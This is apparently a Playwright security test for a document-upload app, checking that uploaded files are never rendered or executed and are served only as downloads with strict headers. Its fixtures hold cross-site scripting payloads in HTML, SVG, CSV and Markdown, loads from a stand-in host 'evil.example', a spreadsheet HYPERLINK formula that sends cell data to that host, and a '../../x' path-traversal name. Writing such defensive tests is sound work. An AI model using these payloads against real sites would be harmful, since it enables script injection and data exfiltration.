import { signUp } from "./person";
import { expect, type Page, test } from "./test";

const EVIL = "http://evil.example";
const script = "window.top.hacked = true; alert(1)";
const hostile = {
  "page.html": `<html><body><h1>Herons</h1><p onclick="${script}">They wade.</p><script>${script}</script>
    <img src="${EVIL}/a.png" onerror="${script}"><iframe src="${EVIL}/"></iframe>
    <meta http-equiv="refresh" content="0;url=${EVIL}/"></body></html>`,
  "picture.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}"><script>${script}</script>
    <image href="${EVIL}/b.png"/><text>Herons wade.</text></svg>`,
  "table.csv": `=HYPERLINK("${EVIL}/?"&A2),<img src=x onerror="${script}">\n"@SUM(1)","<script>${script}</script>"\nHerons,wade\n`,
  "notes.md": `# Herons\n\n<script>${script}</script>\n\n<img src="${EVIL}/c.png" onerror="${script}">\n\n![x](${EVIL}/d.png)\n\n[wade](javascript:${script})\n`,
  "𝕩 🦩 %2e%2e.md": "# Herons\n\nOf four bytes.\n",
};

test("a document with scripts, formulas or addresses of others runs nothing, asks nobody and is only ever given as a download", async ({
  page,
}) => {
  const asked: string[] = [];
  const said: string[] = [];
  await signUp(page, "Zuzanna");
  const origin = new URL(page.url()).origin;
  page.on("request", (request) => asked.push(request.url()));
  page.on("dialog", (dialog) => said.push(`dialog ${dialog.message()}`) && void dialog.dismiss());
  page.on("pageerror", (error) => said.push(error.message));
  page.on("console", (message) => message.type() === "error" && said.push(message.text()));

  const ids = new Map<string, string>();
  for (const [name, text] of Object.entries(hostile)) {
    const answer = await upload(page, { origin, name, text });
    expect(answer.status, answer.body).toBe(201);
    ids.set(name, (JSON.parse(answer.body) as { id: string }).id);
  }
  const refused = await upload(page, { origin, name: "../../x", text: "x" });
  expect([refused.status, refused.body]).toEqual([
    400,
    expect.stringContaining("A name cannot hold a slash"),
  ]);

  for (const [name, id] of ids) {
    await page.goto(`/documents/${id}`);
    await expect(page.getByRole("heading", { level: 1 })).toContainText(name);
    // The page's text is taken from it in the background.
    await expect(
      page
        .locator("main")
        .getByText(/Herons/)
        .first(),
    ).toBeVisible({ timeout: 30_000 });
    for (const view of ["Read", "Text"]) {
      const radio = page.getByRole("radio", { name: view });
      if (await radio.count()) await radio.click();
      await expect(
        page
          .locator("main")
          .getByText(/Herons/)
          .first(),
      ).toBeVisible();
    }
    expect(await page.evaluate(() => "hacked" in window), name).toBe(false);
    expect(await page.locator("main").locator("script, iframe, object, embed").count(), name).toBe(0);

    const { headers, body } = await download(page, id);
    expect(body).toBe(hostile[name as keyof typeof hostile]);
    expect(headers).toMatchObject({
      "content-type": "application/octet-stream",
      "x-content-type-options": "nosniff",
      "content-security-policy": "default-src 'none'; sandbox",
      "content-disposition": expect.stringMatching(
        /^attachment; filename="[\w .()-]+"; filename\*=UTF-8''\S+$/,
      ),
    });
    expect(decodeURIComponent(headers["content-disposition"]?.split("UTF-8''")[1] ?? "")).toBe(name);
  }
  // Gone to by its address, as a link in a mail would, it is saved and not shown.
  const [saved] = await Promise.all([
    page.waitForEvent("download"),
    page.goto(`/api/documents/${ids.get("page.html")}`).catch(() => {}),
  ]);
  expect(saved.suggestedFilename()).toBe("page.html");
  expect(asked.filter((url) => !url.startsWith(origin) && !url.startsWith("data:"))).toEqual([]);
  expect(said).toEqual([]);
});

async function upload(page: Page, { origin, name, text }: { origin: string; name: string; text: string }) {
  const answer = await page.request.post(`/api/documents?${new URLSearchParams({ name })}`, {
    data: Buffer.from(text),
    headers: { origin, "content-type": "application/octet-stream" },
  });
  return { status: answer.status(), body: await answer.text() };
}

async function download(page: Page, id: string) {
  const answer = await page.request.get(`/api/documents/${id}`);
  return { headers: answer.headers(), body: await answer.text() };
}
